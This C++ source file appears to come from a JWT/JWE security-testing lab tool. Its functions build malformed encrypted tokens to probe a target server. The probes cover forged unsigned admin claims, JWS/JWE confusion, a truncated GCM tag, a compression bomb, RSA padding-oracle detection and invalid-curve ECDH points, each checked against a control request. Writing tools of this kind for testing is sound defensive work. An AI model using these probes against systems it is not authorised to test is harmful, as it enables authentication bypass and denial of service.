#include "core/lab/JweAttacks.h"

#include "core/crypto/AesKeyWrap.h"
#include "core/crypto/Random.h"
#include "core/jose/Base64Url.h"
#include "core/jose/Jwe.h"
#include "core/jose/JweContentCipher.h"
#include "core/jose/JweEcdh.h"
#include "core/jose/JweEncryptor.h"
#include "core/lab/AttackJudge.h"
#include "core/lab/AttackSession.h"

#include <QJsonArray>

#include <functional>
#include <variant>

namespace authscope::lab {

namespace {

using Outcome = AttackResult::Outcome;
using jose::JweAlgorithm;
using jose::Jwk;
using jose::KeyType;

const QString kMePath = QStringLiteral("/api/me");

// The target's published encryption key (use "enc"): an RSA one when `rsa`, else the first RSA or EC one.
std::optional<Jwk> encryptionKey(const AttackSession& session, bool rsa)
{
    if (!session.jwks()) {
        return std::nullopt;
    }
    for (const Jwk& k : session.jwks()->keys()) {
        if (k.use() == QStringLiteral("enc") &&
            (k.type() == KeyType::Rsa || (!rsa && (k.type() == KeyType::Ec || k.isKeyAgreementOnly())))) {
            return k;
        }
    }
    return std::nullopt;
}

// `plaintext` encrypted to `key` with the alg it names (RSA-OAEP-256 / ECDH-ES+A256KW when it names none), A256GCM.
Result<QByteArray> encryptTo(const Jwk& key, const QByteArray& plaintext, const QString& cty, bool zip = false)
{
    jose::JweEncryptOptions options;
    const auto named = jose::JweAlgorithms::fromName(key.alg());
    options.algorithm = named && *named != JweAlgorithm::Rsa1_5
                            ? *named
                            : (key.type() == KeyType::Rsa ? JweAlgorithm::RsaOaep256 : JweAlgorithm::EcdhEsA256KW);
    options.contentType = cty;
    options.compress = zip;
    return jose::JweEncryptor::encrypt(plaintext, key, options);
}

Result<http::HttpClientResponse> me(const HttpProbe& probe, const QByteArray& token)
{
    return probe.get(kMePath, {{QByteArrayLiteral("Authorization"), QByteArrayLiteral("Bearer ") + token}});
}

// What every row needs: a signed token the target issues now (the key may have been rotated by an earlier row), the
// published encryption key, and for the rows against a server that requires nested JWTs its probe.
struct Setup
{
    QByteArray signedToken;
    Jwk key;
    std::optional<HttpProbe> encrypted;
};

std::variant<Setup, AttackResult> setUp(AttackSession& session, const AttackSpec& attack, bool needsEncryptedTarget,
                                        bool rsa = false)
{
    Setup s;
    if (needsEncryptedTarget) {
        if (session.target().encryptedBaseUrl.isEmpty()) {
            return AttackJudge::skipped(attack, QStringLiteral("Needs a target that requires nested JWTs (the built-in "
                                                               "server runs one with encrypted tokens on)."));
        }
        auto probe = HttpProbe::forUrl(session.target().encryptedBaseUrl, session.target().timeoutMs);
        if (!probe) {
            return AttackJudge::error(attack, probe.error().message);
        }
        s.encrypted = std::move(*probe);
    }
    auto key = encryptionKey(session, rsa);
    if (!key) {
        return AttackJudge::skipped(attack, rsa ? QStringLiteral("The target publishes no RSA encryption key.")
                                                : QStringLiteral("The target publishes no encryption key (use enc)."));
    }
    s.key = *key;
    auto login = session.loginJwt();
    if (!login) {
        return AttackJudge::error(attack, login.error().message);
    }
    s.signedToken = login->accessToken;
    return s;
}

// The control at the encrypted target: `token` (a well-made nested JWT) must be accepted.
std::optional<AttackResult> control(const Setup& s, const AttackSpec& attack, const QByteArray& token)
{
    auto answer = me(*s.encrypted, token);
    if (!answer) {
        return AttackJudge::error(attack, answer.error().message);
    }
    if (answer->status != 200) {
        return AttackJudge::finish(attack, Outcome::Error, AttackJudge::describe(*answer),
                                   QStringLiteral("Control failed: a well-made nested JWT was refused."));
    }
    return std::nullopt;
}

// A nested JWT of the target's own signed token, checked by the control; the attack changes it.
std::variant<QByteArray, AttackResult> acceptedNested(const Setup& s, const AttackSpec& attack)
{
    auto nested = encryptTo(s.key, s.signedToken, QStringLiteral("JWT"));
    if (!nested) {
        return AttackJudge::error(attack, nested.error().message);
    }
    if (auto failed = control(s, attack, *nested)) {
        return *failed;
    }
    return *nested;
}

// setUp, then the row's `body`; a row that cannot be set up ends as setUp decided (Skipped or Error).
AttackResult afterSetUp(AttackSession& session, const AttackSpec& attack, bool needsEncryptedTarget, bool rsa,
                        const std::function<AttackResult(const Setup&)>& body)
{
    auto setup = setUp(session, attack, needsEncryptedTarget, rsa);
    if (auto* done = std::get_if<AttackResult>(&setup)) {
        return *done;
    }
    return body(std::get<Setup>(setup));
}

// The rows aimed at the encrypted target that change a nested JWT the control saw accepted.
AttackResult withAcceptedNested(AttackSession& session, const AttackSpec& attack, bool rsa,
                                const std::function<AttackResult(const Setup&, const QByteArray&)>& body)
{
    return afterSetUp(session, attack, true, rsa, [&](const Setup& s) {
        auto nested = acceptedNested(s, attack);
        if (auto* done = std::get_if<AttackResult>(&nested)) {
            return *done;
        }
        return body(s, std::get<QByteArray>(nested));
    });
}

QList<QByteArray> parts(const QByteArray& compact)
{
    return compact.split('.');
}

QByteArray joined(const QList<QByteArray>& p)
{
    return p.join('.');
}

// A P-256 key the target publishes for encryption.
std::optional<Jwk> ecEncryptionKey(const AttackSession& session)
{
    if (session.jwks()) {
        for (const Jwk& k : session.jwks()->keys()) {
            if (k.use() == QStringLiteral("enc") && k.type() == KeyType::Ec && k.curve() == QStringLiteral("P-256")) {
                return k;
            }
        }
    }
    return std::nullopt;
}

// ECDH-ES (or ECDH-ES+A*KW, as the key names) + A256GCM to `key`, built by hand so that `changeEpk` can alter the
// ephemeral key the header carries after the agreement (the content is encrypted under the agreed key either way).
Result<QByteArray> ecdhToken(const Jwk& key, const QByteArray& plaintext,
                             const std::function<void(QJsonObject&)>& changeEpk)
{
    const auto enc = jose::JweEncryption::A256Gcm;
    auto alg = jose::JweAlgorithms::fromName(key.alg()).value_or(JweAlgorithm::EcdhEs);
    if (jose::JweAlgorithms::family(alg) != jose::JweKeyFamily::Ecdh) {
        alg = JweAlgorithm::EcdhEs;
    }
    const bool direct = alg == JweAlgorithm::EcdhEs;
    auto agreed =
        jose::JweEcdh::agree(key, direct ? jose::JweAlgorithms::name(enc) : jose::JweAlgorithms::name(alg),
                             direct ? jose::JweAlgorithms::cekBytes(enc) : jose::JweAlgorithms::wrapKeyBytes(alg));
    if (!agreed) {
        return std::unexpected(agreed.error());
    }
    QByteArray cek = agreed->key;
    QByteArray encryptedKey;
    if (!direct) {
        auto fresh = crypto::Random::bytes(jose::JweAlgorithms::cekBytes(enc));
        auto wrapped = fresh ? crypto::AesKeyWrap::wrap(agreed->key, *fresh) : Result<QByteArray>(fresh);
        if (!wrapped) {
            return std::unexpected(wrapped.error());
        }
        cek = *fresh;
        encryptedKey = *wrapped;
    }
    QJsonObject epk = agreed->epk;
    if (changeEpk) {
        changeEpk(epk);
    }
    const QJsonObject header{{QStringLiteral("alg"), jose::JweAlgorithms::name(alg)},
                             {QStringLiteral("enc"), jose::JweAlgorithms::name(enc)},
                             {QStringLiteral("kid"), key.kid()},
                             {QStringLiteral("cty"), QStringLiteral("JWT")},
                             {QStringLiteral("epk"), epk}};
    const QByteArray protectedB64 = AttackSession::b64(AttackSession::compactJson(header));
    auto sealed = jose::JweContentCipher::encrypt(enc, cek, plaintext, protectedB64);
    if (!sealed) {
        return std::unexpected(sealed.error());
    }
    return jose::Jwe::compactOf(protectedB64, encryptedKey, sealed->iv, sealed->ciphertext, sealed->tag);
}

} // namespace

AttackResult JweAttacks::jweWhereJwsRequired(AttackSession& session, const AttackSpec& attack)
{
    return afterSetUp(session, attack, false, false, [&](const Setup& s) {
        // The signed token the target just accepted, inside a JWE to its own key: decrypting is no reason to trust it.
        auto nested = encryptTo(s.key, s.signedToken, QStringLiteral("JWT"));
        if (!nested) {
            return AttackJudge::error(attack, nested.error().message);
        }
        return AttackJudge::judge(attack, me(session.probe(), *nested));
    });
}

AttackResult JweAttacks::jwsWhereJweRequired(AttackSession& session, const AttackSpec& attack)
{
    return withAcceptedNested(session, attack, false, [&](const Setup& s, const QByteArray& /*nested*/) {
        // The same signed token without its encryption.
        return AttackJudge::judge(attack, me(*s.encrypted, s.signedToken));
    });
}

AttackResult JweAttacks::unsignedClaims(AttackSession& session, const AttackSpec& attack)
{
    return withAcceptedNested(session, attack, false, [&](const Setup& s, const QByteArray& /*nested*/) {
        // Claims the target would accept from its own key, with admin roles, encrypted to its public key: no signature.
        QJsonObject claims = session.freshClaims();
        claims.insert(QStringLiteral("roles"), QJsonArray{QStringLiteral("admin")});
        auto forged = encryptTo(s.key, AttackSession::compactJson(claims), QString());
        if (!forged) {
            return AttackJudge::error(attack, forged.error().message);
        }
        return AttackJudge::judge(attack, me(*s.encrypted, *forged));
    });
}

AttackResult JweAttacks::truncatedTag(AttackSession& session, const AttackSpec& attack)
{
    return withAcceptedNested(session, attack, false, [&](const Setup& s, const QByteArray& nested) {
        // The first 8 bytes of the real GCM tag: a decrypter that checks "as many bytes as it got" accepts it, and a
        // forger needs 2^64 tries instead of 2^128.
        QList<QByteArray> p = parts(nested);
        auto tag = jose::Base64Url::decode(p.value(4));
        if (p.size() != 5 || !tag) {
            return AttackJudge::error(attack, QStringLiteral("The nested token has no tag to cut."));
        }
        p[4] = jose::Base64Url::encode(tag->left(8));
        return AttackJudge::judge(attack, me(*s.encrypted, joined(p)));
    });
}

AttackResult JweAttacks::zipBomb(AttackSession& session, const AttackSpec& attack)
{
    return afterSetUp(session, attack, true, false, [&](const Setup& s) {
        // The control: a compressed nested token of the real key is fine.
        auto small = session.signReal(session.freshClaims());
        auto zipped = small ? encryptTo(s.key, *small, QStringLiteral("JWT"), true) : Result<QByteArray>(small);
        if (!zipped) {
            return AttackJudge::error(attack, zipped.error().message);
        }
        if (auto failed = control(s, attack, *zipped)) {
            return *failed;
        }
        // A token the real key signed, padded to 1.5 MiB: a few KiB once deflated, so it passes every header limit.
        QJsonObject claims = session.freshClaims();
        claims.insert(QStringLiteral("pad"), QString(BombBytes, u'A'));
        auto big = session.signReal(claims);
        auto bomb = big ? encryptTo(s.key, *big, QStringLiteral("JWT"), true) : Result<QByteArray>(big);
        if (!bomb) {
            return AttackJudge::error(attack, bomb.error().message);
        }
        AttackResult r = AttackJudge::judge(attack, me(*s.encrypted, *bomb), true);
        AttackJudge::addNote(r.detail,
                             QStringLiteral("%1 bytes on the wire inflate to %2.").arg(bomb->size()).arg(big->size()));
        return r;
    });
}

AttackResult JweAttacks::rsaOracle(AttackSession& session, const AttackSpec& attack)
{
    return withAcceptedNested(session, attack, true, [&](const Setup& s, const QByteArray& nested) {
        // Two broken tokens: one whose encrypted key is random (bad OAEP padding), one whose key is fine but whose
        // ciphertext changed (bad tag). If the answers differ, the target is a padding oracle (Bleichenbacher, Manger).
        const QList<QByteArray> good = parts(nested);
        QList<QByteArray> badPadding = good;
        auto random = crypto::Random::bytes(s.key.bits() / 8);
        if (!random || good.size() != 5) {
            return AttackJudge::error(attack, QStringLiteral("Cannot build the probes."));
        }
        (*random)[0] = 0; // below the modulus: the RSA step works, the padding check fails
        badPadding[1] = jose::Base64Url::encode(*random);
        QList<QByteArray> badTag = good;
        auto ciphertext = jose::Base64Url::decode(good.value(3));
        if (!ciphertext || ciphertext->isEmpty()) {
            return AttackJudge::error(attack, QStringLiteral("The nested token has no ciphertext."));
        }
        (*ciphertext)[0] = static_cast<char>((*ciphertext)[0] ^ 0x01);
        badTag[3] = jose::Base64Url::encode(*ciphertext);
        auto padding = me(*s.encrypted, joined(badPadding));
        auto tag = me(*s.encrypted, joined(badTag));
        if (!padding || !tag) {
            return AttackJudge::error(attack, (!padding ? padding : tag).error().message);
        }
        AttackResult r = AttackJudge::judge(attack, padding);
        if (r.outcome != Outcome::Refused) {
            return r;
        }
        const QString paddingAnswer = AttackJudge::describe(*padding);
        const QString tagAnswer = AttackJudge::describe(*tag);
        if (padding->status != tag->status || padding->body != tag->body) {
            r.outcome = Outcome::Accepted;
            r.detail = QStringLiteral("The target tells a padding error (%1) from a tag error (%2): a padding oracle.")
                           .arg(paddingAnswer, tagAnswer);
        } else {
            r.detail = QStringLiteral("A padding error and a tag error get the same answer.");
        }
        return r;
    });
}

AttackResult JweAttacks::invalidCurve(AttackSession& session, const AttackSpec& attack)
{
    return afterSetUp(session, attack, true, false, [&](const Setup& s) {
        const auto key = ecEncryptionKey(session);
        if (!key) {
            return AttackJudge::skipped(attack, QStringLiteral("The target publishes no P-256 encryption key."));
        }
        auto wellMade = ecdhToken(*key, s.signedToken, {});
        if (!wellMade) {
            return AttackJudge::error(attack, wellMade.error().message);
        }
        if (auto failed = control(s, attack, *wellMade)) {
            return *failed;
        }
        // The same agreement, but the epk's y changed in its last bit: a point off the curve. A decrypter that takes
        // the point as it comes (or only its x) leaks bits of its private key to a series of such tokens (Jager,
        // Schwenk, Somorovsky 2015).
        auto offCurve = ecdhToken(*key, s.signedToken, [](QJsonObject& epk) {
            auto y = jose::Base64Url::decode(epk.value(QStringLiteral("y")).toString().toLatin1());
            if (y && !y->isEmpty()) {
                (*y)[y->size() - 1] = static_cast<char>(y->at(y->size() - 1) ^ 0x01);
                epk.insert(QStringLiteral("y"), QString::fromLatin1(jose::Base64Url::encode(*y)));
            }
        });
        if (!offCurve) {
            return AttackJudge::error(attack, offCurve.error().message);
        }
        return AttackJudge::judge(attack, me(*s.encrypted, *offCurve));
    });
}

} // namespace authscope::lab
